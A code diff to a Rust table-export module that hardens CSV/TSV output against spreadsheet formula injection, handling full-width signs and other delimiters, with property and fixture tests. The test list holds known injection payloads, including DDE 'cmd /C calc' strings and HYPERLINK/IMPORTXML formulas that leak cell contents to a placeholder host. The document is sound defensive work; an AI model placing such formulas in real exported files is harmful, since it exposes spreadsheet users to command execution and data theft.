@@ -80,13 +80,28 @@ impl Table {
     }
 }
 
-/// Keeps a spreadsheet from running words as a formula, after the advice of OWASP on CSV injection.
+/// Signs that begin a formula, wide ones as East Asian spreadsheets take them too.
+const SIGNS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+
+/// Keeps a spreadsheet from running words as a formula, after the advice of OWASP on CSV injection and ASVS 5.0,
+/// 1.2.10: an apostrophe stands before what would begin one. A spreadsheet may also part cells by another sign than
+/// the file does, whatever is quoted; so words behind such a sign are treated as those of a cell.
 fn harmless(words: &str) -> Cow<'_, str> {
-    if words.starts_with(['=', '+', '-', '@', '\t', '\r']) {
-        format!("'{words}").into()
-    } else {
-        words.into()
+    let mut written = String::new();
+    if words.starts_with(['\t', '\r', '\n', '\0']) {
+        written.push('\'');
     }
+    let mut begins = true;
+    for c in words.chars() {
+        if begins && SIGNS.contains(&c) {
+            written.push('\'');
+        }
+        written.push(c);
+        // White space and quotation marks may be gone before a cell is looked at.
+        begins =
+            matches!(c, ';' | '\t' | '\r' | '\n') || begins && (c == '"' || c == '\0' || c.is_whitespace());
+    }
+    if written.len() == words.len() { words.into() } else { written.into() }
 }
 
 fn on_one_line(words: &str) -> String {
@@ -125,7 +140,76 @@ mod tests {
         assert_eq!(table.to_tsv().lines().nth(1), Some("\"\"\"quoted\"\" words\"\ta b c"));
     }
 
+    /// Every cell of a CSV file as a spreadsheet reads it that parts cells by this sign, whatever stands between.
+    fn cells(csv: &str, sign: u8) -> Vec<Vec<String>> {
+        let mut reader = csv::ReaderBuilder::new();
+        let reader = reader.delimiter(sign).has_headers(false).flexible(true);
+        let rows = reader.from_reader(csv.as_bytes()).into_records().map(Result::unwrap);
+        rows.map(|row| row.iter().map(str::to_owned).collect()).collect()
+    }
+
+    /// What the OWASP page on CSV injection and its readers try.
+    const TRIED: &[&str] = &[
+        "=1+1",
+        "=cmd|' /C calc'!A0",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=HYPERLINK(\"https://a.example?leak=\"&A1,\"see\")",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "\0=1+1",
+        "＝1+1",
+        "＋1",
+        "－1",
+        "＠SUM(1)",
+        "a;=1+1",
+        "a\t=1+1",
+        "\";=1+1",
+        "\",=1+1",
+        "',=1+1",
+        "a\"\";=1+1;\"",
+        "=1+1\",\"=2",
+        "=DDE(\"cmd\";\"/C calc\";\"x\")",
+        "=IMPORTXML(CONCAT(\"https://a.example/\",A1),\"//a\")",
+        "-1",
+        "''=1",
+    ];
+
+    fn no_formula(rows: &[Vec<String>]) {
+        let made = |row: &Vec<String>| row.iter().map(|words| Cell::from(words.as_str())).collect();
+        let table = table(rows.iter().map(made).collect());
+        let (csv, tsv) = (table.to_csv(), table.to_tsv());
+        for (written, sign) in [(&csv, b','), (&csv, b';'), (&csv, b'\t'), (&tsv, b'\t'), (&tsv, b';')] {
+            for cell in cells(written, sign).iter().flatten() {
+                let seen = cell.trim_start_matches(|c: char| c == '"' || c == '\0' || c.is_whitespace());
+                assert!(!seen.starts_with(SIGNS), "{cell:?} in {written:?} parted by {sign}");
+                assert!(
+                    sign != b',' || !cell.starts_with(['\t', '\r', '\n', '\0']),
+                    "{cell:?} in {written:?}"
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn nothing_that_is_known_to_be_tried_becomes_a_formula() {
+        for first in TRIED {
+            for second in TRIED {
+                no_formula(&[vec![(*first).to_owned(), (*second).to_owned()], vec![(*second).to_owned()]]);
+            }
+        }
+    }
+
     proptest! {
+        #![proptest_config(ProptestConfig { cases: 4_000, failure_persistence: None, ..ProptestConfig::default() })]
+
+        #[test]
+        fn no_cell_is_a_formula_whatever_parts_cells(rows in prop::collection::vec(prop::collection::vec("[=+@\t\r\n\0a\"',; é＝＠|-]{0,7}", 1..4), 1..4)) {
+            no_formula(&rows);
+        }
+
         #[test]
         fn csv_is_read_back_and_holds_no_formula(rows in prop::collection::vec(prop::collection::vec("[=+@\t\r\na\"',;é-]{0,6}", 2), 0..5)) {
             let cells = |row: &Vec<String>| row.iter().map(|words| Cell::from(words.as_str())).collect();
@@ -136,8 +220,8 @@ mod tests {
                 reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect();
             prop_assert_eq!(read.len(), rows.len());
             for (read, words) in read.iter().flatten().zip(rows.iter().flatten()) {
-                prop_assert!(!read.starts_with(['=', '+', '-', '@', '\t', '\r']));
-                prop_assert!(read == words || read.strip_prefix('\'') == Some(words));
+                prop_assert!(!read.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']));
+                prop_assert_eq!(read.replace('\'', ""), words.replace('\'', ""), "more than apostrophes was added");
             }
             let tsv = table.to_tsv();
             prop_assert_eq!(tsv.lines().count(), rows.len() + 1);
